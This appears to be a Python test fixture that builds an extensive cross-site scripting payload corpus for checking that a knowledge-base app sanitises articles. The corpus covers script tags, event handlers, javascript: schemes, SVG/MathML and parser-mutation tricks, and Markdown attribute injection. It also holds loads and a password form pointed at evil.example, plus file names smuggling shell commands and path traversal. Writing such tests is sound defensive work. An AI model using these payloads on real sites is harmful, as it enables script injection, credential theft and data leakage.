"""Ways in which people have tried to run scripts on pages of others, by family. Written for this test.

Every payload that would run does the same: it calls `__xss()`, or asks `evil.example` for something.
A page on which none of it shows has neither; `tests/browser/test_hostile.py` looks in a real browser.
"""

from itertools import product

from flask import Flask

from articles.models import Category, CategoryName
from articles.publishing import commit_changes
from kb.db import db
from search import sync
from tests import factories

CALL = "window.__xss=1"
ELSEWHERE = "https://evil.example"

SCRIPTS = [
    f"<script>{CALL}</script>",
    f"<SCRIPT>{CALL}</SCRIPT>",
    f"<script\n>{CALL}</script\n>",
    f"<script/x>{CALL}</script>",
    f"<script\x0c>{CALL}</script>",
    f'<script a=">" >{CALL}</script>',
    f"<script a='>' >{CALL}</script>",
    f"<script type=module>{CALL}</script>",
    f"<script type=text/javascript>{CALL}//</script foo>",
    f"<script src={ELSEWHERE}/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=\\\\evil.example\\x.js></script>",
    f"<script src=data:text/javascript,{CALL}></script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<<script>{CALL}//<</script>",
    f"<script<script>>{CALL}</script>",
    f"<%00script>{CALL}</script>",
    f"<\x00script>{CALL}</script>",
    f"<scr\x00ipt>{CALL}</scr\x00ipt>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"＜script＞{CALL}＜/script＞",
    f"\u2039script\u203a{CALL}\u2039/script\u203a",
    f"<ſcript>{CALL}</ſcript>",
    f"<script>{CALL}",
    f"</script><script>{CALL}</script>",
    f"<!--<script>-->{CALL}</script>",
    f"<![CDATA[<script>{CALL}</script>]]>",
    f"<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{CALL}</script>",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{CALL}</x:script>",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"<script>{CALL}</script\x85>",
]

# Elements that fire by themselves, with the event that they fire.
EVENTS = [
    "<img src=x onerror={call}>", "<img src=x onerror='{call}'>", '<img src=x onerror="{call}">',
    "<img src=x onerror\n=\n{call}>", "<img src=x onerror\x0c={call}>", "<img src=x ONERROR={call}>",
    "<img src=x oNeRrOr={call}>", "<img/src=x/onerror={call}>", "<img\tsrc=x\tonerror={call}>",
    "<img src=x:x onerror={call} alt=x>", '<img """><img src=x onerror={call}>',
    "<img src='x'onerror={call}>", "<img src=x onerror=`{call}`>", "<img src onerror={call}>",
    "<img srcset=x onerror={call}>", "<img src=x srcset='x 1x' onerror={call}>",
    "<image src=x onerror={call}>", "<picture><source srcset=x><img onerror={call}></picture>",
    "<img src=x onerror=&#119;indow.__xss=1>", "<img src=x onerror=&#x77;indow.__xss=1>",
    "<img src=x onerror=&#0000119indow.__xss=1>", "<img src=x on\x00error={call}>",
    "<body onload={call}>", "<body onpageshow={call}>", "<body onhashchange={call}>",
    "<svg onload={call}>", "<svg/onload={call}>", "<svg\nonload={call}>", "<svg onload={call}//",
    "<svg><g onload={call}></g></svg>", "<svg onunload={call}>", "<svg onresize={call}>",
    "<video src=x onerror={call}>", "<video><source onerror={call}></video>",
    "<video autoplay onloadstart={call} src=x></video>", "<video poster=javascript:{call}></video>",
    "<audio src=x onerror={call}>", "<audio oncanplay={call} src=x>", "<track default onerror={call}>",
    "<iframe onload={call}></iframe>", "<iframe src=x onload={call}>", "<object onerror={call} data=x>",
    "<embed src=x onload={call}>", "<input autofocus onfocus={call}>", "<select autofocus onfocus={call}>",
    "<textarea autofocus onfocus={call}>", "<keygen autofocus onfocus={call}>",
    "<button autofocus onfocus={call}>x</button>", "<a autofocus tabindex=1 onfocus={call}>x</a>",
    "<div contenteditable autofocus onfocus={call}>x</div>", "<details open ontoggle={call}>x</details>",
    "<details/open/ontoggle={call}>", "<marquee onstart={call}>x</marquee>",
    "<marquee loop=1 width=0 onfinish={call}>x</marquee>", "<isindex type=image src=1 onerror={call}>",
    "<style onload={call}>x{{}}</style>", "<link rel=stylesheet href=x onerror={call}>",
    "<dialog open onclose={call}>", "<form onsubmit={call}><input type=submit></form>",
    "<table onmouseover={call}><tr><td>x</table>", "<td background=x onload={call}>",
    "<p onpointerover={call}>x</p>", "<p style='animation:x' onanimationstart={call}>x</p>",
    "<p onanimationend={call} style=animation-name:x>x</p>", "<b ontransitionend={call}>x</b>",
    "<a onclick={call} href=#>x</a>", "<a href=# onmouseenter={call}>x</a>",
    "<em onbeforeinput={call} contenteditable>x</em>", "<code onscroll={call}>x</code>",
    "<h2 onfocusin={call} tabindex=0>x</h2>", "<q onauxclick={call}>x</q>",
    "<bdo onwheel={call} dir=rtl>x</bdo>", "<time oncopy={call} datetime=2020>x</time>",
    "<ol onpaste={call} start=1><li>x</ol>", "<col ondrag={call}>", "<hr oncut={call}>",
    "<xss onbeforescriptexecute={call}>", "<xss id=x tabindex=1 onfocus={call}>",
    "<custom-tag onclick={call}>x</custom-tag>", "<p hidden=until-found onbeforematch={call}>x</p>",
    "<button popovertarget=p>x</button><p popover id=p onbeforetoggle={call}>x</p>",
    "<input type=hidden accesskey=x onclick={call}>", "<meter onmouseover={call}>0</meter>",
    "<summary onclick={call}>x</summary>", "<ins onmousemove={call}>x</ins>",
]  # fmt: skip

SCHEMES = [
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"javascript:{CALL}//", f" javascript:{CALL}",
    f"\tjavascript:{CALL}", f"java\tscript:{CALL}", f"java\nscript:{CALL}", f"java\rscript:{CALL}",
    f"javascript\t:{CALL}", f"javascript\n:{CALL}", f"\x01javascript:{CALL}", f"\x1fjavascript:{CALL}",
    f"\x0bjavascript:{CALL}", f"\u00a0javascript:{CALL}", f"\u200bjavascript:{CALL}",
    f"\ufeffjavascript:{CALL}", f"\u202ejavascript:{CALL}", f"\u2028javascript:{CALL}",
    f"&#106;avascript:{CALL}", f"&#x6A;avascript:{CALL}", f"&#0000106avascript:{CALL}",
    f"&#X6a;&#X61;vascript:{CALL}", f"java&#9;script:{CALL}", f"java&#10;script:{CALL}",
    f"java&Tab;script:{CALL}", f"java&NewLine;script:{CALL}", f"javascript&colon;{CALL}",
    f"javascript&#58;{CALL}", f"javascript&#x3a;{CALL}", f"javascript%3A{CALL}",
    f"%6aavascript:{CALL}", f"&amp;#106;avascript:{CALL}", f"&#1;javascript:{CALL}",
    f"&#14;  javascript:{CALL}", f"javascript://%0a{CALL}", f"javascript://x.example/%0d%0a{CALL}",
    f"javascript:/*--></title></style></textarea></script><svg/onload={CALL}>*/{CALL}",
    f"ｊavascript:{CALL}", f"javaſcript:{CALL}", f"feed:javascript:{CALL}", f"view-source:javascript:{CALL}",
    f"vbscript:{CALL}", "vbscript:msgbox(1)", f"livescript:{CALL}", f"mocha:{CALL}",
    f"data:text/html,<script>{CALL}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>",
    f"data:application/xhtml+xml,<x/>{CALL}", f"data:,{CALL}", f"DATA:text/html,{CALL}",
    "blob:https://evil.example/x", "filesystem:https://evil.example/temporary/x.html",
    "file:///etc/passwd", "jar:https://evil.example!/x.html", "ms-its:x", "res://x", "about:blank#x",
    "intent://x#Intent;scheme=javascript;end", "x-javascript:1", "chrome://settings",
]  # fmt: skip
# Where an address stands in HTML or in Markdown.
PLACES = [
    '<a href="{}">x</a>', "<a href='{}'>x</a>", "[x]({})", "[x](<{}>)", "![x]({})", "<{}>",
    "[x][r]\n\n[r]: {}\n", '<img src="{}">', "[x]( {} 'title')",
]  # fmt: skip
RARE_PLACES = [
    '<a xlink:href="{}">x</a>', '<area href="{}">', '<form action="{}"><input type=submit></form>',
    '<button formaction="{}">x</button>', '<input type=image formaction="{}">', '<iframe src="{}"></iframe>',
    '<object data="{}"></object>', '<embed src="{}">', '<base href="{}">', '<link href="{}" rel=import>',
    '<meta http-equiv=refresh content="0;url={}">', '<blockquote cite="{}">x</blockquote>',
    '<q cite="{}">x</q>', '<del cite="{}">x</del>', '<video src="{}"></video>', '<video poster="{}"></video>',
    '<img srcset="{} 1x">', '<img lowsrc="{}">', '<img dynsrc="{}">', '<img longdesc="{}">',
    '<body background="{}">', '<table background="{}"><tr><td>x</table>', '<a ping="{}" href="#">x</a>',
    '<svg><a xlink:href="{}"><text y=20>x</text></a></svg>', '<svg><use href="{}"/></svg>',
    '<svg><image href="{}"/></svg>', '<svg><script href="{}"/></svg>',
    '<svg><animate attributeName=href values="{}"/></svg>', '<math href="{}">x</math>',
    '<math><mi xlink:href="{}">x</mi></math>', '<applet code="{}">', '<bgsound src="{}">',
    '<frameset><frame src="{}"></frameset>', '<isindex action="{}">', '<html manifest="{}">',
    '{{% embed url="{}" %}}', '{{% file src="{}" %}}', '{{% content-ref url="{}" %}}\nx\n{{% endcontent-ref %}}',
    "x[^1]\n\n[^1]: [y]({})", "| [x]({}) |\n|---|\n| y |", "> [x]({})", "- [x]({})", "# [x]({})",
    "!!! note \"[x]({})\"\n    y", "*[x]: {}\n\nx", "[![x]({})]({})", "[x]({}){{: target=_blank }}",
    "[x](#){{: href=\"{}\" }}", "![x](attachment:abcdef12/x.png){{: src=\"{}\" }}",
    "``` {{.html href=\"{}\"}}\nx\n```",
]  # fmt: skip

SVG_AND_MATHML = [
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href=data:,{CALL} /></svg>",
    f"<svg><script xlink:href=data:,{CALL} /></svg>",
    f"<svg><style><img src=x onerror={CALL}></style></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={CALL}>",
    f"<svg><set onbegin={CALL} attributename=x>",
    f"<svg><animatetransform onbegin={CALL}>",
    f"<svg><a><animate attributeName=href values=javascript:{CALL} /><text x=9 y=9>x</text></a></svg>",
    f"<svg><a><set attributeName=xlink:href to=javascript:{CALL} /><text>x</text></a></svg>",
    f"<svg><foreignObject><body onload={CALL}></foreignObject></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{CALL}</script>'></foreignObject></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{CALL}'/>#x\"/></svg>",
    f"<svg><desc><img src=x onerror={CALL}></desc></svg>",
    f"<svg><title><style><img src=x onerror={CALL}></style></title></svg>",
    f"<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>{CALL}</handler></svg>",
    f"<svg><image href=x onerror={CALL}></svg>",
    f'<svg></p><style><a id="</style><img src=1 onerror={CALL}>">',
    f"<svg><!--<![CDATA[--><img src=x onerror={CALL}>]]></svg>",
    f"<svg><mpath onbegin={CALL}></svg>",
    f'<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">',
    f"<math><mtext><table><mglyph><style><math><img src=x onerror={CALL}></style></mglyph></table>",
    f"<math><annotation-xml encoding='text/html'><p><style><img src=x onerror={CALL}></style>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{CALL}>x</maction></math>",
    f'<math><mi//xlink:href="data:x,<script>{CALL}</script>">',
    f"<math><mo><malignmark><img src=x onerror={CALL}></malignmark></mo></math>",
]

# What one parser reads as text, another as an element: each breaks out where it is read twice.
MUTATIONS = [
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f'<noembed><p title="</noembed><img src=x onerror={CALL}>">',
    f'<noframes><p title="</noframes><img src=x onerror={CALL}>">',
    f'<xmp><p title="</xmp><img src=x onerror={CALL}>">',
    f'<textarea><p title="</textarea><img src=x onerror={CALL}>">',
    f'<title><p title="</title><img src=x onerror={CALL}>">',
    f'<style><p title="</style><img src=x onerror={CALL}>">',
    f'<iframe><p title="</iframe><img src=x onerror={CALL}>">',
    f"<select><style></select><img src=x onerror={CALL}></style></select>",
    f"<select><template><style></select><img src=x onerror={CALL}></style>",
    f"<template><style></template><img src=x onerror={CALL}></style></template>",
    f"<template shadowrootmode=open><script>{CALL}</script></template>",
    f"<plaintext><img src=x onerror={CALL}>",
    f"<listing>&lt;img src=x onerror={CALL}&gt;</listing>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>",
    f'<p><svg><style><g title="</style><img src=x onerror={CALL}>">',
    f"<a href='\"><img src=x onerror={CALL}>'>x</a>",
    f'<a title="`><img src=x onerror={CALL}>">x</a>',
    f'<img alt="``onerror={CALL}">',
    f"<a id=\"x' onclick='{CALL}\">x</a>",
    f"<p title='\"><script>{CALL}</script>'>x</p>",
    f"<td><form><td></form><img src=x onerror={CALL}>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<!---><img src=x onerror={CALL}>-->",
    f"<!-- --!><img src=x onerror={CALL}> -->",
    f"<!--[if gte IE 4]><script>{CALL}</script><![endif]-->",
    f'<? foo="><script>{CALL}</script>">',
    f'<! foo="><script>{CALL}</script>">',
    f'</ foo="><script>{CALL}</script>">',
    f"<% foo><img src=x onerror={CALL}> %>",
    f"<//style={CALL} /><img src=x onerror={CALL}>",
    f"<a<img src=x onerror={CALL}>",
    f"<b/><img src=x onerror={CALL}//",
    f'<div id="\n"><img src=x onerror={CALL}>">',
    f"<p><![CDATA[</p><img src=x onerror={CALL}>]]>",
    f"&#60;img src=x onerror={CALL}&#62;",
    f"&lt;img src=x onerror={CALL}>",
    f"\x02wzxhzdk:0\x03<script>{CALL}</script>\x02wzxhzdk:1\x03",
    f"\x02klzzwxh:0000\x03<img src=x onerror={CALL}>",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */{CALL} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={CALL}//>\\x3e",
    f"'\"--></style></script><svg onload={CALL}>",
    f'"><svg/onload={CALL}//',
    f"'onmouseover='{CALL}' x='",
    f'" autofocus onfocus={CALL} x="',
    f"--><!-- ---> <img src=x onerror={CALL}>",
    f"]]><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    "{{7*7}}{{constructor.constructor('window.__xss=1')()}}",
    "${window.__xss=1}#{window.__xss=1}<%= window.__xss=1 %>",
]

LOADS = [
    f"<img src={ELSEWHERE}/pixel>", f"<img srcset='{ELSEWHERE}/pixel 1x'>", "<img src=//evil.example/p>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>", f"<link rel=prefetch href={ELSEWHERE}/>",
    f"<link rel=dns-prefetch href={ELSEWHERE}>", f"<link rel=preconnect href={ELSEWHERE}>",
    f"<style>@import '{ELSEWHERE}/x.css';</style>", f"<style>body{{background:url({ELSEWHERE}/)}}</style>",
    f"<p style='background:url({ELSEWHERE}/x)'>x</p>", f"<p style=\"background:image-set('{ELSEWHERE}/x' 1x)\">x</p>",
    "<p style='width:expression(window.__xss=1)'>x</p>", "<p style='-moz-binding:url(//evil.example/x)'>x</p>",
    "<p style='behavior:url(#default#time2)'>x</p>", "<p style='b\\61ckground:\\75rl(//evil.example/)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9'>x</p>", f"<base href={ELSEWHERE}/>", f"<base target={ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>", "<meta http-equiv=Set-Cookie content='a=b'>",
    "<meta http-equiv=Content-Security-Policy content=''>", "<meta charset=utf-7>", "<meta name=referrer content=unsafe-url>",
    f"<iframe src={ELSEWHERE}></iframe>", f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<object data={ELSEWHERE}/x.swf></object>", f"<embed src={ELSEWHERE}/x.swf>", f"<portal src={ELSEWHERE}>",
    f"<fencedframe src={ELSEWHERE}>", f"<audio src={ELSEWHERE}/x autoplay>", f"<video src={ELSEWHERE}/x autoplay muted>",
    f"<video poster={ELSEWHERE}/x></video>", f"<input type=image src={ELSEWHERE}/x>",
    f"<form action={ELSEWHERE}><input name=password><button>x</button></form>", f"<form id=f></form><button form=f formaction={ELSEWHERE}>x</button>",
    f"<body background={ELSEWHERE}/x>", f"<svg><image href={ELSEWHERE}/x /></svg>", f"<svg><use href={ELSEWHERE}/x#y /></svg>",
    f"<svg><filter><feImage href={ELSEWHERE}/x /></filter></svg>", f"<math><mglyph src={ELSEWHERE}/x></math>",
    f"<object><param name=src value={ELSEWHERE}></object>", f"![x]({ELSEWHERE}/pixel.png)", "![x](//evil.example/p.png)",
    f"![x][r]\n\n[r]: {ELSEWHERE}/p.png", f"<a href=# ping={ELSEWHERE}>x</a>", f"<script async src={ELSEWHERE}/x></script>",
    f"<html manifest={ELSEWHERE}/x>", "<img src='/attachments/../..//evil.example/x'>", "![x](/\\evil.example/x.png)",
    "![x](attachment:abcdef12/../../evil.example)", "<img src=\"attachment:abcdef12/x.png\" srcset=\"//evil.example/x 2x\">",
]  # fmt: skip

MARKDOWN = [
    "# x {onclick=window.__xss=1}", "# x {: onclick=\"window.__xss=1\" style=\"position:fixed\"}",
    "x\n{: onmouseover=window.__xss=1 }", "*x*{: onclick=window.__xss=1 }", "`x`{: onclick=window.__xss=1 }",
    "![x](attachment:abcdef12/x.png){onerror=window.__xss=1}", "[x](#){: onclick=window.__xss=1 }",
    "- x\n{: onclick=window.__xss=1 }", "| x |\n|---|\n| y {: onclick=window.__xss=1 } |",
    "```html onload=window.__xss=1\n<script>window.__xss=1</script>\n```", "```<script>window.__xss=1</script>\nx\n```",
    "``` {.python onclick=window.__xss=1}\nx\n```", "``` {: #x onclick=window.__xss=1}\nx\n```",
    "```js title=\"</code><script>window.__xss=1</script>\"\nx\n```", "~~~\n</pre><script>window.__xss=1</script>\n~~~",
    "!!! note \"<script>window.__xss=1</script>\"\n    x", "!!! note\" onclick=\"window.__xss=1 \"t\"\n    x",
    "!!! \"><img src=x onerror=window.__xss=1>\n    x", "> [!NOTE] <img src=x onerror=window.__xss=1>\n> x",
    "> [!<img src=x onerror=window.__xss=1>]\n> x", "??? tip \"<img src=x onerror=window.__xss=1>\"\n    x",
    "=== \"<script>window.__xss=1</script>\"\n    x", "=== \"\\\"><img src=x onerror=window.__xss=1>\"\n    x",
    "{% hint style=\"\\\"><script>window.__xss=1</script>\" %}x{% endhint %}",
    "{% tabs %}{% tab title=\"<img src=x onerror=window.__xss=1>\" %}x{% endtab %}{% endtabs %}",
    "{% code title=\"<script>window.__xss=1</script>\" %}\n```\nx\n```\n{% endcode %}",
    "[x](https://x.example \"\\\" onmouseover=\\\"window.__xss=1\")", "[x](https://x.example '\" onclick=\"window.__xss=1')",
    "![x\" onerror=\"window.__xss=1](attachment:abcdef12/x.png)", "![x](x.png\"onerror=\"window.__xss=1)",
    "![x](attachment:abcdef12/x.png \"\\\" onload=\\\"window.__xss=1\")", "[x\"onclick=window.__xss=1](#)",
    "[<script>window.__xss=1</script>](#)", "[x](article:a\"onclick=\"window.__xss=1)", "[x](article:\"><script>window.__xss=1</script>)",
    "<https://x.example/\"onclick=window.__xss=1>", "https://x.example/\"onclick=window.__xss=1", "<x@y.example\"onclick=window.__xss=1>",
    "[^\"><script>window.__xss=1</script>]\n\n[^\"><script>window.__xss=1</script>]: y", "[^1]\n\n[^1]: <script>window.__xss=1</script>",
    "*[HTML]: \"><script>window.__xss=1</script>\n\nHTML", "*[x]: ' onmouseover='window.__xss=1\n\nx",
    "| <script>window.__xss=1</script> |\n|---|\n| <img src=x onerror=window.__xss=1> |", "| x |\n|:--\" onclick=\"window.__xss=1|\n| y |",
    "x\n: <img src=x onerror=window.__xss=1>", "~~<script>window.__xss=1</script>~~", "[ ] <img src=x onerror=window.__xss=1>",
    "- [x] <script>window.__xss=1</script>", "https://www.youtube.com/watch?v=\"onload=window.__xss=1",
    "<https://www.youtube.com/watch?v=abc'\"><script>window.__xss=1</script>>", "https://evil.example/videos/watch/\"><script>window.__xss=1</script>",
    "https://vimeo.com@evil.example/123456", "<iframe src=\"https://www.youtube.com/embed/x\" onload=window.__xss=1></iframe>",
    "<iframe src=\"https://www.youtube.com/embed/&quot;onload=window.__xss=1\"></iframe>",
    "<details open><summary onclick=window.__xss=1>x</summary><img src=x onerror=window.__xss=1></details>",
    "<details><summary><script>window.__xss=1</script></summary>x</details>", "<div markdown=1><script>window.__xss=1</script></div>",
    "<!-- writer: --><script>window.__xss=1</script>", "<!-- writer: <script>window.__xss=1</script> -->",
    "\\<script>window.__xss=1\\</script>", "`<script>`window.__xss=1`</script>`", "<script>`</script>`window.__xss=1",
    "    <script>window.__xss=1</script>", "&lt;script&gt;window.__xss=1&lt;/script&gt;{: onclick=x}",
    "<div class=\"callout\" data-video-src=\"javascript:window.__xss=1\">x</div>",
    "<figure class=\"video\" data-video-src=\"https://evil.example\"><a href=\"#\">x</a></figure>",
    "<a class=\"external heading-link\" data-vote=1 href=\"#\">x</a>", "<button data-palette=\"javascript:window.__xss=1\">x</button>",
    "<form data-form data-preview=\"//evil.example\">x</form>", "<p id=__proto__>x</p><p id=constructor>y</p>",
    "<a id=location name=location href=\"#\">x</a>", "<img name=cookie id=body src=\"attachment:abcdef12/x.png\">",
]  # fmt: skip

NAMES = [
    "x\u202egnp.exe", "a\u2066b\u2069.png", "../../etc/passwd", "..\\..\\boot.ini", "/etc/shadow", "C:\\x.png",
    "nul", "CON.png", "x.png\x00.html", "x\n.png", "x\r\nSet-Cookie: a=b.png", "\"><script>window.__xss=1</script>.png",
    "' onerror='window.__xss=1.png", "x.php.png", ".htaccess", "...", "", " ", "x" * 400 + ".png",
    "é̀́̂.png", "x;rm -rf ~.png", "$(id).png", "`id`.png", "%2e%2e%2fx.png", "x.png.", "x.png ", "-rf.png",
    "\ufeffx.png", "\u200bx.png", "🦄.png", "x.PNG", "x.svg.exe", "LPT1 .txt", "a/b/c.pdf", "file:///x.png",
]  # fmt: skip


def payloads() -> list[str]:
    """Return every distinct payload that is a text."""
    common = [place.format(scheme) for scheme, place in product(SCHEMES, PLACES)]
    rare = [place.format(*[f"javascript:{CALL}"] * place.count("{}")) for place in RARE_PLACES]
    events = [each.format(call=CALL) for each in EVENTS]
    every = [*SCRIPTS, *events, *common, *rare, *SVG_AND_MATHML, *MUTATIONS, *LOADS, *MARKDOWN]
    return list(dict.fromkeys(every))


TITLES = [*SCRIPTS[::3], *(each.format(call=CALL) for each in EVENTS[::6]), *MUTATIONS[::3]]


def besiege(app: Flask, articles: int = len(TITLES)) -> list[int]:
    """Publish articles whose every field is an attack; return their numbers, `attack-0` first."""
    titles = [" ".join(TITLES[start::articles]) for start in range(articles)]
    names = [
        CategoryName(
            locale=locale,
            name=f"<img src=x onerror={CALL}>",
            slug="c",
            description=f"<script>{CALL}</script>",
        )
        for locale in ("en", "fr")
    ]
    category = Category(key="x", names=names)
    db.session.add(category)
    numbers = []
    for number, title in enumerate(titles):
        translation = factories.article(
            f"Lamp {title}",
            "\n\n".join(payloads()[number::articles]),
            slug=f"attack-{number}",
            summary=f"Lamp {titles[-number]}",
            answers=(f"Lamp question {title}",),
            category=category,
        )
        translation.article.tags = [title]
        translation.article.owner = title
        numbers.append(translation.id)
    commit_changes()
    sync.reconcile(app)
    return numbers
